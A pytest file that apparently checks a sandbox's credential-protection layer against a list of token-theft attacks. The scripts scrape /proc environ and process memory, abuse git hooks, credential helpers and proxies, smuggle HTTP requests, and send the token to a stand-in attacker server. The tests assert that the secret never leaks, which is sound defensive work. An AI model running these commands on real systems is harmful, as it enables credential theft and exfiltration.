"""
Attacks on a credential from inside the sandbox. Each proves that it came as far as it can: the secret was used, or the attacker was reached.

The secret may then be nowhere that commands or their author can look: in the output, the project, the private HOME, /tmp, the requests that
another host gets, the events of the session.
"""

import shutil
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import NamedTuple

import pytest

from sanderling.config import Credential
from tests.sandbox.test_credentials import (
    DIRECT,
    SECRET,
    VARIABLE,
    certificate,  # noqa: F401 - a fixture
    sandbox_with,
    server,  # noqa: F401 - a fixture
)
from tests.sandbox.test_network import HttpServer, server_for
from tests.sandbox.test_sandbox import run
from tests.secret_server import SecretServer

pytestmark = [
    pytest.mark.guard,
    pytest.mark.skipif(not shutil.which("openssl"), reason="openssl makes the certificate"),
]

NEEDLES = (
    SECRET,
    SECRET[::-1],
    SECRET.encode().hex(),
    b64encode(f"x-access-token:{SECRET}".encode()).decode(),
    *(b64encode(b"x" * n + SECRET.encode()).decode()[4:28] for n in range(3)),
)
OWN_PATHS = ("/git/it.git/*", "/echo*", "/redirect", "/user")


class Outcome(NamedTuple):
    """What came of an attack. `used` are the paths of requests that got the secret, `stolen` what the attacker's server received."""

    out: str
    used: list[str]
    stolen: str


@dataclass(frozen=True)
class Attack:
    """A script for sh. `$URL` is the host of the credential, `$EVIL` the attacker's server."""

    script: str
    has_come_far: Callable[[Outcome], bool]


def used(it: Outcome) -> bool:
    return bool(it.used)


def arrived(it: Outcome) -> bool:
    return bool(it.stolen)


def printed(text: str, *, is_used: bool = False) -> Callable[[Outcome], bool]:
    """The output has `text`, and no request got the secret, unless it `is_used`."""
    return lambda it: text in it.out and bool(it.used) is is_used


CURL = 'curl -sS -m 20 -H "Authorization: token $GH_TOKEN"'
DUMP = """
import os, subprocess, sys
sleeper = subprocess.Popen(["sleep", "60"])
with open("dump", "wb") as dump:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            lines = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        for line in lines:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            if line.split()[1][0] == "r" and end - start < 1 << 26:
                try:
                    memory.seek(start)
                    dump.write(memory.read(end - start))
                except (OSError, ValueError, OverflowError):
                    pass
sleeper.kill()
print("dumped", os.path.getsize("dump") > 1 << 16)
"""
RAW = """
import os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["http_proxy"])
host = os.environ["URL"].removeprefix("http://")
mark = os.environ["GH_TOKEN"]
with socket.create_connection((proxy.hostname, proxy.port), 20) as client:
    client.sendall(eval(sys.argv[1]).encode())
    client.settimeout(20)
    while data := client.recv(65536):
        sys.stdout.write(data.decode("latin-1"))
"""


def raw(expression: str) -> str:
    """Send what a Python expression makes of `host` and `mark` to the proxy."""
    return f"cat > raw.py <<'END'\n{RAW}\nEND\npython3 raw.py '{expression}'"


HEAD = 'f"GET http://{host}/user HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: token {mark}\\r\\n'
ATTACKS = {
    "environment": Attack(f"{CURL} $URL/user; env; cat /proc/*/environ | tr '\\0' '\\n'", used),
    "arguments": Attack(
        f"{CURL} $URL/echo/bytes > echo & cat /proc/*/cmdline | tr '\\0' ' '; wait; cat echo", used
    ),
    "memory": Attack(
        f"{CURL} $URL/user; cat > dump.py <<'END'\n{DUMP}\nEND\npython3 dump.py",
        printed("dumped True", is_used=True),
    ),
    "core": Attack(
        f"ulimit -c unlimited; {CURL} $URL/user; git ls-remote $URL/git/it.git & sh -c 'kill -ABRT $$'; wait; ls",
        used,
    ),
    "trace of git": Attack(
        "export GIT_TRACE=1 GIT_TRACE_CURL=1 GIT_TRACE_PACKET=1 GIT_TRACE_SETUP=1 GIT_TRACE_REDACT=0 GIT_CURL_VERBOSE=1"
        " GIT_TRACE2_EVENT=$PWD/trace2; git ls-remote $URL/git/it.git 2>&1",
        printed("Authorization: Basic", is_used=True),
    ),
    "trace of curl": Attack(f"{CURL} -v --trace-ascii trace $URL/user 2>&1", used),
    "echo": Attack(f"{CURL} -i --compressed $URL/echo; {CURL} --raw $URL/echo/bytes", used),
    "echo in a range": Attack(
        f"for n in 0 9 19 29; do {CURL} -r $n-$((n+9)) $URL/echo; done", used
    ),
    "redirect with the header": Attack(
        f"{CURL} -L --location-trusted $URL/redirect", lambda it: used(it) and arrived(it)
    ),
    "redirect of git": Attack(
        "git -c http.followRedirects=true ls-remote $URL/echo/redirect/git 2>&1", used
    ),
    "another host": Attack(f"{CURL} $EVIL/", arrived),
    "another host in Host": Attack(f'{CURL} -H "Host: ${{EVIL#http://}}" $URL/user', used),
    "another host as the real one": Attack(f"{CURL} -H 'Host: localhost' $EVIL/", arrived),
    "user in the URL": Attack(f'{CURL} "http://${{URL#http://}}@${{EVIL#http://}}/"', arrived),
    "gateway to another host": Attack(
        f'{CURL} --unix-socket $GH_CONFIG_DIR/socket -H "Host: ${{EVIL#http://}}" http://x/user',
        printed(" gets no secret: "),
    ),
    "tunnel": Attack(
        f"{CURL} -k -o /dev/null -w '%{{http_code}}' https://${{URL#http://}}/user", printed("401")
    ),
    "another method": Attack(
        f"for m in PUT DELETE PATCH OPTIONS TRACE get; do {CURL} -X $m $URL/user; done",
        printed("is not for TRACE, only for GET, HEAD, POST."),
    ),
    "another path": Attack(
        f"for p in /git/other.git/x /git/it.git/../other /git/it.git/%2e%2e/x //user /user%3f /user/; do"
        f" {CURL} --path-as-is $URL$p; done",
        printed("is not for /git/other.git/x, only for"),
    ),
    "line end in the path": Attack(
        f"{CURL} -i '$URL/user%0d%0aX-Evil:%20a'".replace("'", '"'),
        printed(" is not for /user%0d%0a"),
    ),
    "hook": Attack(
        "mkdir hooks; printf '#!/bin/sh\\nenv; cat; echo ran; echo $1 $2\\n' > hooks/pre-push; chmod +x hooks/pre-push;"
        " git -c core.hooksPath=hooks push $URL/git/it.git main 2>&1",
        printed("ran", is_used=True),
    ),
    "insteadOf": Attack(
        "git -c url.$EVIL/.insteadOf=$URL/ ls-remote $URL/git/it.git;"
        " git remote set-url origin $EVIL/it; git config url.$EVIL/.pushInsteadOf $URL/; git push $URL/git/it.git main",
        arrived,
    ),
    "another proxy": Attack(
        f"http_proxy=$EVIL HTTP_PROXY=$EVIL git -c http.proxy=$EVIL ls-remote $URL/git/it.git; {CURL} $EVIL/",
        arrived,
    ),
    "another header": Attack(
        "git -c http.$URL/.extraHeader='Authorization: token mine' ls-remote $URL/git/it.git; echo ended",
        printed("ended"),
    ),
    "credential helper": Attack(
        "git -c credential.helper='!f() { cat; env; echo asked; }; f' ls-remote https://${URL#http://}/git/it.git 2>&1;"
        " git -c credential.helper='!cat' ls-remote $URL/git/it.git; echo ended",
        printed("ended", is_used=True),
    ),
    "submodule": Attack(
        "printf '[submodule \"s\"]\\npath = s\\nurl = %s/git/other.git\\n' $URL > .gitmodules; git add .gitmodules;"
        " git update-index --add --cacheinfo 160000 $(git rev-parse HEAD) s; git submodule update --init 2>&1; echo ended",
        printed("ended"),
    ),
    "large files": Attack(
        "printf '[lfs]\\nurl = %s/lfs\\n' $EVIL > .lfsconfig;"
        " ./git-lfs env; GIT_TRACE=1 ./git-lfs push --object-id $URL/git/it.git $(printf x | sha256sum | cut -c1-64) 2>&1;"
        f" {CURL} $EVIL/",
        arrived,
    ),
    "two requests": Attack(
        raw(
            f'{HEAD}\\r\\n" + f"GET http://{{host}}/git/other.git/x HTTP/1.1\\r\\nHost: {{host}}\\r\\nAuthorization: token {{mark}}\\r\\n\\r\\n"'
        ),
        used,
    ),
    "request in a body": Attack(
        raw(
            'f"POST http://{host}/user HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: token {mark}\\r\\nContent-Length: 4\\r\\n'
            'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://{host}/git/other.git/x HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"'
        ),
        lambda it: it.used in ([], ["/user"]),
    ),
    "chunk with a sign": Attack(
        raw(
            'f"POST http://{host}/user HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: token {mark}\\r\\n'
            'Transfer-Encoding: xchunked\\r\\nContent-Length: 3\\r\\n\\r\\nabc"'
        ),
        printed("HTTP/1.1 "),
    ),
    "line end in the target": Attack(
        raw(
            'f"GET http://{host}/user\\rX: y HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: token {mark}\\r\\n\\r\\n"'
        ),
        printed("HTTP/1.1 400 "),
    ),
    "line end in the user": Attack(
        'curl -sS -m 20 -u "a\r\nX-Evil=b:$GH_TOKEN" -i $URL/echo/head', used
    ),
    "HTTP/2": Attack(
        f"{CURL} --http2-prior-knowledge --noproxy '*' --unix-socket $GH_CONFIG_DIR/socket $URL/user 2>&1; echo ended",
        printed("ended"),
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
async def test_attack_does_not_find_the_secret(place, server: SecretServer, monkeypatch, name):  # noqa: F811
    attack, evil = ATTACKS[name], HttpServer()
    if name == "large files":
        if not (lfs := shutil.which("git-lfs")):
            pytest.skip("git-lfs is not installed")
        shutil.copy(lfs, place.project / "git-lfs")
    credential = Credential(
        hosts=(server.host,),
        source="env",
        variable=VARIABLE,
        placeholders=("GH_TOKEN",),
        paths=OWN_PATHS,
    )
    async with (
        server_for(evil) as port,
        sandbox_with(place, server, monkeypatch, credentials=(("github", credential),)) as sandbox,
    ):
        await sandbox.set_network("proxy", (*sandbox.policy.hosts, f"127.0.0.1:{port}"))
        server.elsewhere = f"http://127.0.0.1:{port}/stolen"
        env = DIRECT | {"URL": f"http://{server.host}", "EVIL": f"http://127.0.0.1:{port}"}
        status, out, errors = await run(sandbox, attack.script, env=env)
        with_secret = [path for _, path, sent in server.authorizations if _has_secret(sent)]
        outcome = Outcome(f"{out}{errors}", with_secret, b"".join(evil.requests).decode("latin-1"))
        assert attack.has_come_far(outcome), (status, outcome)
        assert not [path for path in with_secret if "other" in path or "lfs" in path]
        for needle in NEEDLES:
            for text in (outcome.out, outcome.stolen, str(place.events)):
                assert needle not in text, needle
            _assert_nowhere(needle.encode(), place.base)


def _has_secret(authorization: str) -> bool:
    return any(needle in authorization for needle in NEEDLES)


def _assert_nowhere(needle: bytes, directory: Path) -> None:
    for path in directory.rglob("*"):
        assert not (path.is_file() and needle in path.read_bytes()), path
